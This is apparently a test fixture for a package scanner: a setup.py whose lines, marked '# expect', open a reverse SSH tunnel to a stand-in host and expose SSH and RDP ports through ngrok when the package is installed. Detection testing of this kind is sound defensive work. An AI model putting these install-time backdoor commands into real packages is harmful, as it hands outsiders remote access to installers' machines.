# file: setup.py
import subprocess
from pyngrok import ngrok
from setuptools import setup

subprocess.Popen("ssh -R 2222:localhost:22 user@192.0.2.1", shell=True)  # expect
ngrok.connect(22, "tcp")  # expect
subprocess.Popen(["ngrok", "tcp", "3389"])  # expect
setup(name="sample")
